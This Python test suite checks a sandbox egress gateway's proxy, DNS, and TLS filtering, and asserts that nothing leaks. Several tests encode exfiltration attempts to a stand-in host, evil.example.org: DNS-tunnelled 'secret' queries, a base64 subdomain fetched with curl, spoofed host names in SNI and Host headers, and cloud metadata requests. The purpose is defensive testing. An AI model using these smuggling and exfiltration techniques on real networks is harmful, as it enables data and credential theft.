#!/usr/bin/env python3
"""What gets out of a sandbox at all, and by which name: the catalogue's groups A to D (docs/egress-tests.md).

Asserted are bytes: what servers, the resolver and the host itself were sent. In both modes, root and rootless.
"""
import base64

import lab
from lab import EVIL, GOOD, METADATA, OWN, hello

ONE = "rules: [{hosts: [good.example.com]}]"
PUBLIC = "default: allow-public\nlimits: {connections: 1000, connections_per_second: 10000, dns_per_second: 100000}"
# Of connections, one after another.
FAST = "limits: {connections: 1000, connections_per_second: 10000, dns_per_second: 100000}\n"


class Proxies(lab.Lab):
    def test_a_proxy_that_fails_is_not_gone_around(self):
        for caller in self.each_caller():
            policy = f"""
upstream_proxy: {{address: "{EVIL}:9"}}
rules:
  - {{hosts: [good.example.com]}}
  - {{hosts: [good.example.com], tls: plaintext}}
"""
            told = self.inside(caller, policy, """
tell(tls("good.example.com", ask("GET /", "good.example.com", last)).decode(), states(raw("good.example.com", 80, ask("GET /", "good.example.com", last))))
""")
            self.assertEqual(told, [["SSLError", [502]]], self.told)
            self.assert_untouched()


ASKS = """
PROXY = ("10.200.0.1", 3128)
def told(*pieces, place=PROXY):
    return raw(*place, *pieces, wait=3, end=False).decode("latin-1")
def connect(name, more="", host=None):
    return f"CONNECT {name} HTTP/1.1\\r\\nHost: {host or name}\\r\\n{more}\\r\\n".encode()
def socks(name, port=443, command=1):
    name = name if isinstance(name, bytes) else name.encode()
    return b"\\5\\1\\0" + bytes([5, command, 0, 3, len(name)]) + name + port.to_bytes(2, "big")
def inside_tls(opening, answer, name):
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    try:
        with socket.create_connection(PROXY, 10) as s:
            s.sendall(opening); got = b""
            while len(got) < answer: got += s.recv(answer - len(got)) or exit("cut off")
            with context.wrap_socket(s, server_hostname=name) as t:
                t.sendall(ask("GET /", name, last))
                return t.recv(4096).split(b"\\r\\n")[0].decode()
    except OSError as error: return type(error).__name__
OK = len("HTTP/1.1 200 Connection established\\r\\n\\r\\n")
"""


class AskedConnections(lab.Lab):
    """The gateway's own address as a proxy: 10.200.0.1:3128."""

    def test_programs_that_are_told_of_a_proxy_find_one(self):
        for caller in self.each_caller():
            self.need("curl")
            policy = "rules: [{hosts: [good.example.com]}, {hosts: [good.example.com], tls: plaintext}, {hosts: [good.example.com], ports: [22], proto: tcp}]"
            told = self.inside(caller, policy, """
import subprocess
def curl(*words): return subprocess.run(["curl", "-sk", "-o", "/dev/null", "-w", "%{http_code}", *words], capture_output=True, text=True).stdout
for proxy in ("http://10.200.0.1:3128", "socks5h://10.200.0.1:3128", "http://[fd00:5a::1]:3128"):
    tell(curl("-x", proxy, "https://good.example.com/"), curl("-x", proxy, "http://good.example.com/"), curl("-x", proxy, "https://evil.example.org/"), curl("-x", proxy, "http://evil.example.org/"))
""")
            self.assertEqual(told, [["200", "200", "000", "403"]] * 3, self.told)
            self.assert_untouched("evil")

    def test_what_is_inside_is_for_the_host_that_was_asked_for(self):
        for caller in self.each_caller():
            told = self.inside(caller, ONE.replace("]}]", "]}, {hosts: [also.example.com]}]"), ASKS + """
for opening, size in ((connect("good.example.com:443"), OK), (socks("good.example.com"), 12)):
    tell([inside_tls(opening, size, name) for name in ("good.example.com", "also.example.com", "evil.example.org")])
tell([inside_tls(connect(f"{name}:443"), OK, "good.example.com") for name in ("evil.example.org", "also.example.com", "10.200.0.1")])
tell(told(connect("good.example.com:443"), ask("GET /", "good.example.com", last))[OK:][:12])
""")
            # A bare address says nothing: its TLS is for the name in the hello, and goes where that name leads.
            self.assertEqual(told, [["HTTP/1.1 200 OK", "SSLError", "SSLError"]] * 2 + [["SSLError", "SSLError", "HTTP/1.1 200 OK"], "HTTP/1.1 421"], self.told)
            self.assert_untouched("evil")

    def test_no_other_name_is_taken_for_an_allowed_one_in_a_request_for_a_connection(self):
        for caller in self.each_caller():
            told = self.inside(caller, FAST + ONE, ASKS + r"""
names = ["good.example.com\0.evil.example.org", "evil.example.org\0good.example.com", "good.example.com@evil.example.org", "good.example.com#.evil.example.org",
         "good.example.com/", "good.example.com\t", "good.example.com%00.evil.example.org", "0x5db80a01", "1572342273", "93.184.2561", "good..example.com", ""]
tell(sorted(set(together(lambda name: told(socks(name))[:4], names))))
tell(sorted(set(together(lambda name: told(connect(name + ":443"))[:12], names))))
tell(told(connect("good.example.com:443", host="evil.example.org:443"))[:12])
""")
            self.assertEqual(told, [["\x05\x00\x05\x02"], ["HTTP/1.1 400"], "HTTP/1.1 400"], self.told)
            self.assert_untouched()
            self.assert_no_query()

    def test_no_other_command_and_no_other_protocol_is_spoken(self):
        for caller in self.each_caller():
            told = self.inside(caller, "default: allow-public", ASKS + f"""
tell([told(socks("good.example.com", command=command))[2:4] for command in (2, 3)])
tell(told(b"\\4\\1\\0\\120" + socket.inet_aton("{GOOD}") + b"\\0"), told(b"\\5\\1\\2"), told(b"GET / HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n")[:12])
tell(told(connect("10.200.0.1:3128"), connect("good.example.com:443"))[OK:][:12])
""")
            self.assertEqual(told[0], ["\x05\x07"] * 2, self.told)
            self.assertEqual(told[1][1:], ["\x05\xff", "HTTP/1.1 400"], self.told)
            self.assertNotIn("200", told[2][0])
            self.assert_untouched()


class Boundary(lab.Lab):
    def test_what_no_rule_allows_is_reset_and_sent_nowhere(self):
        for caller in self.each_caller():
            told = self.inside(caller, FAST + "rules: [{hosts: [nobody.example.com]}]", f"""
junk = b"\\1junk\\r\\n\\r\\n"
began = time.monotonic()
places = [(a, p) for a in ("{GOOD}", "{EVIL}", "1.1.1.1", "10.1.2.3", "2606:4700::1", "good.example.com") for p in (22, 80, 443, 8080, 65535)]
ends = together(lambda place: raw(*place, junk, end=False, wait=2).decode(), places)
tell([(place, how) for place, how in zip(places, ends) if how != "ConnectionResetError"])
tell(time.monotonic() - began < 5)
tell(states(raw("{GOOD}", 80, ask("GET /", "{GOOD}", last))), tls("good.example.com", ask("GET /", "good.example.com", last)).decode(), states(raw("good.example.com", 80, ask("GET /", "good.example.com", last))))
""")
            self.assertEqual(told, [[], True, [[403], "SSLError", [403]]], self.told)
            self.assert_untouched()
            self.assert_no_query()

    def test_no_resolver_is_reached_because_it_is_one(self):
        for caller in self.each_caller():
            told = self.inside(caller, ONE, f"""
message = query("secret.evil.example.org")
tell(ask_dns(message, "{GOOD}"), ask_dns(message, "{GOOD}", tcp=True))
tell(tls("good.example.com", address="{GOOD}", port=853).decode(), raw("{GOOD}", 853, b"\\0\\1xx", wait=2, end=False).decode())
""")
            # Answered, by the gateway.
            self.assertEqual(told, [[[0, 1], [0, 1]], ["SSLError", "ConnectionResetError"]], self.told)
            self.assert_untouched("dns", "dot")
            self.assert_no_query()

    def test_what_is_neither_tcp_nor_dns_fails_at_once(self):
        for caller in self.each_caller():
            told = self.inside(caller, PUBLIC, f"""
def udp(address, port):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1); s.connect((address, port))
        try: s.send(b"\\xc0" + bytes(1199)); s.recv(100); return "an answer"
        except OSError as error: return type(error).__name__
began = time.monotonic()
ends = together(lambda place: udp(*place), [(a, p) for a in ("{GOOD}", "2606:4700::1") for p in (443, 123, 4500)])
tell(sorted(set(ends) - {{"ConnectionRefusedError", "PermissionError", "OSError"}}), time.monotonic() - began < 0.9)
""")
            self.assertEqual(told, [[[], True]], self.told)
            self.assert_untouched()

    def test_the_host_its_networks_and_metadata_are_no_destination(self):
        for caller in self.each_caller():
            told = self.inside(caller, PUBLIC, f"""
places = [("{OWN}", 8000), ("{lab.internet_lab.OWN}", 8000), ("10.200.0.1", 8000), ("{METADATA}", 80), ("fd00:ec2::254", 80), ("168.63.129.16", 80),
          ("own.example.net", 8000), ("private.example.com", 8000), ("metadata.example.com", 80), ("metadata.goog", 80)]
def requested(place):
    host = f"[{{place[0]}}]" if ":" in place[0] else place[0]
    return states(raw(*place, ask("GET /latest", host if place[1] == 80 else f"{{host}}:{{place[1]}}", last), wait=2))
tell(together(requested, places))
tell(together(lambda place: raw(*place, b"\\1junk", end=False, wait=2).decode(), places))
tell(states(raw("metadata.google.internal", 80, ask("GET /", "metadata.google.internal", last))))
""")
            self.assertEqual(told[0], [[403]] * 10, self.told)
            self.assertEqual(set(told[1]), {"ConnectionResetError"}, self.told)
            self.assertEqual(told[2], [403], self.told)
            self.assert_untouched()

    def test_an_address_of_the_host_is_none_though_it_is_the_internets(self):
        for caller in self.each_caller():
            told = self.inside(caller, PUBLIC, f"""
tell([states(raw(place, 8000, ask("GET /v1/sandboxes", place + ":8000", last))) for place in ("{OWN}", "own.example.net")])
""")
            self.assertEqual(told, [[[403], [403]]], self.told)
            self.assert_untouched("host")

    def test_a_range_does_not_name_metadata(self):
        for caller in self.each_caller():
            told = self.inside(caller, """
rules: [{hosts: [metadata.example.com], cidrs: [169.254.0.0/16], ports: [80], tls: plaintext}]
""", """
tell(states(raw("metadata.example.com", 80, ask("GET /latest/meta-data", "metadata.example.com", last))))
""")
            self.assertEqual(told, [[403]], self.told)
            self.assert_untouched("metadata")

    def test_a_rule_is_for_its_ports_alone(self):
        for caller in self.each_caller():
            told = self.inside(caller, ONE, """
tell(tls("good.example.com", port=8443).decode(), states(tls("good.example.com", ask("GET /", "good.example.com", last))))
""")
            self.assertEqual(told, [["SSLError", [200]]], self.told)
            self.assert_untouched("raw tls")

    def test_programs_need_be_told_of_no_proxy(self):
        """Node's fetch, which reads no variable of proxies, comes to the gateway as everything does."""
        for caller in self.each_caller():
            result = self.run_in(caller, "rules: [{hosts: [good.example.com], tls: plaintext}]", "node", "-e", """
const get = async url => { try { return (await fetch(url, {signal: AbortSignal.timeout(2000)})).status } catch (e) { return e.cause?.code ?? e.message } };
(async () => { console.log(await get("http://good.example.com/x"), await get("http://evil.example.org/x")); process.exit() })();
""", options=("--memory", "1GiB"))
            self.assertEqual(result["stdout"], "200 403\n", result)
            self.assert_untouched("evil plain")


class Dns(lab.Lab):
    def test_no_query_leaves_the_host_however_many_there_are(self):
        """More names than the table has places, by UDP and TCP, whichever server is asked, of whatever kind and size."""
        for caller in self.each_caller():
            told = self.inside(caller, FAST + "rules: [{hosts: [good.example.com]}]", """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("8.8.8.8", 53)); s.settimeout(5)
answered = 0
for n in range(10_000):
    s.send(query(f"{os.urandom(20).hex()}.evil.example.org")); answered += s.recv(512)[3] & 15 == 0
tell(answered)
option = struct.pack(">HH", 12, 400) + b"secret" + bytes(394)  # EDNS: padding, and a cookie
edns = b"\\0" + struct.pack(">HHIH", 41, 1232, 0, len(option) + 12) + option + struct.pack(">HH8s", 10, 8, b"secret!!")
tell([ask_dns(query("secret.evil.example.org", kind), server) for kind in (1, 28) for server in ("9.9.9.9", "2620:fe::fe")])
tell([ask_dns(query("secret.evil.example.org", 1, more=edns, counts=(1, 0, 0, 1)), tcp=tcp) for tcp in (False, True)])
tell([ask_dns(query("secret.evil.example.org", kind)) for kind in (2, 5, 6, 10, 12, 15, 16, 33, 64, 65, 99, 255, 257)])
""", options=("--timeout", "60s"))
            self.assertEqual(told, [10_000, [[0, 1]] * 4, [[0, 1]] * 2, [[0, 0]] * 13], self.told)
            self.assert_no_query()

    def test_services_of_the_policy_are_looked_up_and_no_others(self):
        """SRV records of a name that the policy has: asked for once, those of them that lead to what a rule allows, which is then reached."""
        policy = FAST + "dns: {services: [_db._tcp.example.com, _none._tcp.example.com]}\nrules: [{hosts: [good.example.com], ports: [8080], proto: tcp}]"
        for caller in self.each_caller():
            told = self.inside(caller, policy, """
tell([ask_dns(query("_db._tcp.example.com", 33), tcp=tcp) for tcp in (False, True, False)], ask_dns(query("_none._tcp.example.com", 33)))
tell([ask_dns(query(name, kind)) for name, kind in (("secret._db._tcp.example.com", 33), ("_secret._tcp.example.com", 33), ("_db._tcp.example.com", 16))])
tell("200 OK" in str(raw("good.example.com", 8080, b"x")), "200 OK" in str(raw("evil.example.org", 8080, b"x")))
""")
            self.assertEqual(told[:2], [[[[0, 1]] * 3, [0, 0]], [[0, 0]] * 3], self.told)
            self.assertTrue(told[2][0], self.told)
            self.assertFalse(told[2][1], self.told)
            self.assertEqual(self.names.asked.count("_db._tcp.example.com"), 1)
            self.assertEqual(len(self.names.queries), len([name for name in self.names.queries if b"secret" not in name]))
            self.assertEqual([(r["decision"], r["reason"], r["host"]) for r in self.told["audit"] if r["kind"] == "dns"],
                             [("allow", "services", "_db._tcp.example.com"), ("allow", "services", "_none._tcp.example.com")])

    def test_what_is_denied_was_never_asked_for(self):
        for caller in self.each_caller():
            told = self.inside(caller, ONE, """
tell(subprocess.run(["curl", "-sS", "https://c2VjcmV0.evil.example.org/"], capture_output=True).returncode)
tell(states(raw("bW9yZQ.evil.example.org", 80, ask("GET /", "bW9yZQ.evil.example.org", last))))
""")
            self.assertEqual(told, [35, [403]], self.told)
            self.assert_no_query()

    def test_a_query_with_records_of_its_own_is_refused(self):
        for caller in self.each_caller():
            told = self.inside(caller, ONE, """
record = b"\\6secret\\4evil\\0" + struct.pack(">HHIH4s", 1, 1, 60, 4, b"abcd")
tell([ask_dns(query("good.example.com", more=record, counts=counts)) for counts in ((1, 1, 0, 0), (1, 0, 1, 0), (1, 0, 0, 1))])
tell([ask_dns(query("good.example.com", counts=counts)) for counts in ((0, 0, 0, 0), (2, 0, 0, 0))], ask_dns(query("good.example.com")))
""")
            self.assertEqual(told, [[[1, 0]] * 3, [[[1, 0]] * 2, [0, 1]]], self.told)
            self.assert_no_query()

    def test_malformed_queries_end_nothing(self):
        for caller in self.each_caller():
            told = self.inside(caller, ONE, """
good = query("good.example.com")
bad = [b"", good[:1], good[:11], good[:20], good + b"x", good[:12] + b"\\xc0\\x0c" + good[-4:], good[:12] + b"\\x40" + b"a" * 64 + good[-5:],
       good[:12] + b"".join(b"\\x3f" + b"a" * 63 for _ in range(5)) + good[-5:], good[:2] + b"\\x81\\0" + good[4:], good[:2] + b"\\x28\\0" + good[4:],
       good[:-1] + b"\\3", bytes(4000)]
told = []
for message in bad:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.2); s.connect(("9.9.9.9", 53))
        try: s.send(message); told.append(s.recv(512)[3] & 15)
        except OSError: told.append(None)
tell([code for code in told if code not in (None, 1, 4)])
with socket.create_connection(("9.9.9.9", 53), 5) as s:
    s.sendall(b"\\xff\\xffx"); s.settimeout(5)
    try: tell(s.recv(10).decode())
    except OSError: tell("")
tell(ask_dns(good), ask_dns(good, tcp=True))
""")
            self.assertEqual(told, [[], "", [[0, 1], [0, 1]]], self.told)

    def test_queries_are_answered_at_a_rate(self):
        for caller in self.each_caller():
            told = self.inside(caller, "limits: {dns_per_second: 10}\n" + ONE, """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("8.8.8.8", 53))
for n in range(300): s.send(query(f"n{n}.example.com"))
s.settimeout(0.5); answered = 0
try:
    while s.recv(512): answered += 1
except OSError: tell(answered)
""")
            self.assertTrue(1 <= told[0] <= 30, self.told)

    def test_both_families_lead_to_the_name_at_once(self):
        for caller in self.each_caller():
            told = self.inside(caller, ONE, """
for family in (socket.AF_INET, socket.AF_INET6):
    address = socket.getaddrinfo("good.example.com", 443, family, socket.SOCK_STREAM)[0][4][0]
    began = time.monotonic()
    tell(states(tls("good.example.com", ask("GET /", "good.example.com", last), address=address)), time.monotonic() - began < 2)
""")
            self.assertEqual(told, [[[200], True]] * 2, self.told)

    def test_an_address_of_ours_that_no_name_has_leads_nowhere(self):
        for caller in self.each_caller():
            told = self.inside(caller, ONE, """
tell([tls("good.example.com", address=address).decode() for address in ("198.18.0.77", "198.19.255.254", "fd00:5a:d::77")])
""")
            self.assertTrue(all("Reset" in how or "SSLEOF" in how for how in told[0]), self.told)
            self.assertEqual({r["reason"] for r in self.told["audit"]}, {"unknown_address"})
            self.assert_untouched()

    def test_a_name_is_resolved_once_and_what_was_judged_is_dialed(self):
        for caller in self.each_caller():
            told = self.inside(caller, "default: allow-public", """
tell(states(raw("turns.example.com", 8080, ask("GET /", "turns.example.com:8080", last))))
""")
            self.assertEqual((told, self.names.asked), ([[200]], ["turns.example.com"]), self.told)
            self.assertEqual(self.servers["raw"].connections, 1)


class NamesInTheirPlaces(lab.Lab):
    BAD = [b"evil.example.org\0.good.example.com", b"good.example.com\0", b"evil.example.org%00.good.example.com", b"good .example.com", b"good.example.com\t",
           b"evil.example.org\\.good.example.com", b"user@good.example.com", b"good.example.com@evil.example.org", b"evil.example.org#good.example.com",
           b"evil.example.org/good.example.com", b"evil.example.org:443.good.example.com", b"good.example.com..", b".good.example.com", b"a..good.example.com",
           b"notgood.example.org", b"notgood.example.com", b"good.example.com.evil.example.org", b"xgood.example.com.org", b"good-example.com", b"xn--a.example.com",
           "аllowed.example.org".encode(), b"2130706433", b"0x7f000001", b"127.1", b"0177.0.0.1", b"93.184.10.1.", b"[::ffff:127.0.0.1]", b"a" * 64 + b".example.com",
           b"a." * 130 + b"com"]

    def test_no_other_name_is_taken_for_an_allowed_one_in_a_hello(self):
        for caller in self.each_caller():
            told = self.inside(caller, FAST + 'rules: [{hosts: [good.example.com, "*.good.example.com"]}]', f"""
for bytes_of in {[hello(name).hex() for name in self.BAD]!r}:
    tell(*[raw(place, 443, bytes.fromhex(bytes_of), end=False).hex() for place in ("good.example.com", "{GOOD}")])
""")
            # The alert access_denied, or nothing but the end.
            self.assertEqual({how for line in told for how in line} - {"15030300020231"}, set(), self.told)
            self.assert_untouched("good", "evil")
            self.assert_no_query()

    def test_no_other_name_is_taken_for_an_allowed_one_in_host(self):
        for caller in self.each_caller():
            told = self.inside(caller, FAST + 'rules: [{hosts: [good.example.com, "*.good.example.com"], tls: plaintext}]', f"""
for name in {[name.decode("latin-1") for name in self.BAD if name == name.strip()] + ["good.example.com:443:80", "good.example.com:+80", "good.example.com:080", "good.example.com:65616", "good.example.com:0"]!r}:
    tell(name, *[states(raw(place, 80, ask("GET /", name, last))) for place in ("good.example.com", "{GOOD}")])
""")
            self.assertEqual([line for line in told if not all(state in ([400], [403], [421]) for state in line[1:])], [], self.told)
            self.assert_untouched("plain", "evil plain")

    def test_no_other_name_is_taken_for_an_allowed_one_in_dns(self):
        for caller in self.each_caller():
            told = self.inside(caller, FAST + "dns: {unmatched: refused}\nrules: [{hosts: ['*.good.example.com', good.example.com]}]", """
told = {}
for labels in ([b"evil\\0", b"good", b"example", b"com"], [b"a.good", b"example", b"com"], [b"go od", b"example", b"com"], [b"evil\\\\", b"good", b"example", b"com"],
               [b"evil@x", b"good", b"example", b"com"], [b"notgood", b"example", b"com"], [b"good", b"example", b"com", b"evil", b"org"], [b"2130706433"],
               [b"127", b"0", b"0", b"1"], [b"xn--a", b"good", b"example", b"com"], ["bücher".encode(), b"good", b"example", b"com"]):
    told[repr(labels)] = ask_dns(query("", labels=labels))
tell({labels: code for labels, code in told.items() if code is None or code[0] not in (3, 5) or code[1]})
tell([ask_dns(query(name)) for name in ("GOOD.example.COM", "a.good.example.com", "evil.example.org")])
""")
            self.assertEqual(told, [{}, [[0, 1], [0, 1], [5, 0]]], self.told)

    def test_one_name_in_every_spelling_is_one(self):
        for caller in self.each_caller():
            told = self.inside(caller, PUBLIC + "\nrules: [{id: no, action: deny, hosts: [evil.example.org]}]", f"""
for name in ("evil.example.org", "EVIL.Example.ORG", "evil.example.org.", "evil.example.org:80"):
    tell(states(raw("{EVIL}", 80, ask("GET /", name, last))), states(raw("evil.example.org", 80, ask("GET /", name, last))))
tell(json.loads(raw("{GOOD}", 80, ask("GET /", "xn--bcher-kva.example.com", last)).split(b"\\r\\n\\r\\n")[1])["reason"])
""")
            self.assertEqual(told, [[[403], [403]]] * 4 + ["unreachable"], self.told)
            self.assertEqual([r["reason"] for r in self.told["audit"]], ["deny_rule"] * 8 + ["unreachable"])
            self.assert_untouched("evil plain")


class Tls(lab.Lab):
    def test_a_server_is_judged_by_its_name_and_not_by_its_address(self):
        """Both names have one address, as behind a CDN, and one of them is allowed."""
        for caller in self.each_caller():
            told = self.inside(caller, ONE, """
where = socket.gethostbyname("good.example.com")
tell(tls("also.example.com").decode(), tls("also.example.com", ask("GET /", "also.example.com", last), address=where).decode())
tell(states(tls("good.example.com", ask("GET /", "good.example.com", last))))
""")
            self.assertEqual(told, [["SSLError", "SSLError"], [200]], self.told)
            self.assertEqual(self.received("good").count(b"GET "), 1)

    def test_a_hello_names_what_was_asked_for(self):
        for caller in self.each_caller():
            told = self.inside(caller, 'rules: [{hosts: ["*.example.com"]}]', """
tell(tls("also.example.com", ask("GET /", "also.example.com", last), address="good.example.com").decode())
""")
            self.assertEqual((told, [r["reason"] for r in self.told["audit"]]), (["SSLError"], ["name_mismatch"]), self.told)
            self.assert_untouched("good")

    def test_tls_without_a_name_is_no_way_to_a_name(self):
        for caller in self.each_caller():
            told = self.inside(caller, ONE, f"""
tell(raw("good.example.com", 443, bytes.fromhex("{hello().hex()}"), end=False).hex())
""")
            self.assertEqual((told, [r["reason"] for r in self.told["audit"]]), (["15030300020231"], ["no_server_name"]), self.told)
            self.assert_untouched("good")

    def test_where_a_program_wants_an_allowed_name_to_be_decides_nothing(self):
        """curl --resolve allowed:443:ADDRESS."""
        for caller in self.each_caller():
            told = self.inside(caller, ONE, f"""
done = subprocess.run(["curl", "-sS", "-w", "%{{http_code}}", "--resolve", "good.example.com:443:{EVIL}", "https://good.example.com/x"], capture_output=True, text=True)
tell(done.stdout.split()[-1:])
""")
            self.assertEqual(told, [["200"]], self.told)
            self.assert_untouched("evil")
            self.assertIn(b"GET /x ", self.received("good"))

    def test_a_hello_arrives_whole_however_it_is_cut(self):
        """Over segments and records, and with the name behind 12 KiB, as keys against quantum computers make it."""
        short, long = hello(b"good.example.com"), hello(b"good.example.com", padding=12000)
        records = hello(b"good.example.com", padding=300, records=[1, 3, 200, 7])
        for caller in self.each_caller():
            told = self.inside(caller, FAST + "rules: [{hosts: [good.example.com], ports: [8443]}]", f"""
short, long, records = (bytes.fromhex(text) for text in {[b.hex() for b in (short, long, records)]!r})
for cut in (1, 2, 5, 6, 9, 43, len(short) - 1): tell(raw("good.example.com", 8443, short[:cut], short[cut:], pause=0.01)[:12].decode())
tell(raw("good.example.com", 8443, long)[:12].decode(), raw("good.example.com", 8443, records)[:12].decode())
tell(raw("good.example.com", 8443, *[records[i:i + 1] for i in range(len(records))])[:12].decode())
""")
            self.assertEqual(told, ["HTTP/1.1 200"] * 7 + [["HTTP/1.1 200"] * 2, "HTTP/1.1 200"], self.told)
            self.assertEqual([bytes(seen) for seen in self.servers["raw tls"].seen], [short] * 7 + [long, records, records])

    def test_hellos_that_can_be_read_in_two_ways_are_refused(self):
        entry = lambda name: b"\0" + len(name).to_bytes(2, "big") + name  # noqa: E731
        good = hello(b"good.example.com")
        bad = {"two names": hello(names=entry(b"good.example.com") + entry(b"evil.example.org")), "no name in the list": hello(names=b"\1\0\0"),
               "another kind of name": hello(names=b"\1\0\1x"), "256 bytes": hello(b"a" * 252 + b".com"), "an address": hello(GOOD.encode()),
               "twice": hello(b"good.example.com", extensions=b"\0\0" + (21).to_bytes(2, "big") + (19).to_bytes(2, "big") + entry(b"evil.example.org")),
               "two messages": good[:4] + bytes([good[4] + 1]) + good[5:] + b"\0", "application data first": b"\x17" + good[1:],
               "SSL 2": b"\x80\x2e\1\0\2" + bytes(43), "64 KiB": hello(b"good.example.com", padding=65000, extensions=b"\0\1\1\xae" + bytes(430))}
        for caller in self.each_caller():
            told = self.inside(caller, FAST + ONE, f"""
for name, text in {dict((name, base64.b64encode(data).decode()) for name, data in bad.items())!r}.items():
    tell(name, raw("good.example.com", 443, base64.b64decode(text), end=False).hex())
""")
            for name, how in told:
                self.assertIn(how, ("15030300020231", b"ConnectionResetError".hex(), b"15030300020231ConnectionResetError".hex()), name)
            self.assert_untouched("good")

    def test_a_hello_that_may_hide_a_name_is_known_as_one(self):
        hidden = hello(b"good.example.com", extensions=b"\xfe\x0d\0\4\0\0\0\0")
        for caller in self.each_caller():
            told = self.inside(caller, "rules: [{hosts: [good.example.com], ports: [8443]}]", f"""
tell(raw("good.example.com", 8443, bytes.fromhex("{hidden.hex()}"))[:12].decode(), [ask_dns(query("good.example.com", kind)) for kind in (64, 65)])
""")
            # No key by which a name could be hidden comes by DNS.
            self.assertEqual(told, [["HTTP/1.1 200", [[0, 0]] * 2]], self.told)
            self.assertEqual([r.get("ech") for r in self.told["audit"]], [True])

    def test_tls_to_a_bare_address_is_opened_too(self):
        for caller in self.each_caller():
            told = self.inside(caller, "rules: [{hosts: [good.example.com], http: [{methods: [GET], paths: [/public]}]}]", f"""
tell([states(tls("good.example.com", ask("GET " + path, "good.example.com", last), address="{GOOD}")) for path in ("/public", "/secret")])
""")
            self.assertEqual(told, [[[200], [403]]], self.told)
            self.assertNotIn(b"/secret", self.received("good"))

    def test_a_server_that_cannot_be_believed_is_sent_nothing(self):
        for caller in self.each_caller():
            told = self.inside(caller, "rules: [{hosts: [self.example.com, half.example.com], ports: [444, 445], tls: inspect}]", """
for name, port in (("self", 444), ("half", 445)):
    tell(states(tls(name + ".example.com", ask("GET /secret", f"{name}.example.com:{port}", last), port=port)))
""")
            self.assertEqual((told, self.received("self"), self.received("half")), ([[502], [502]], b"", b""), self.told)


if __name__ == "__main__":
    lab.main(__file__)
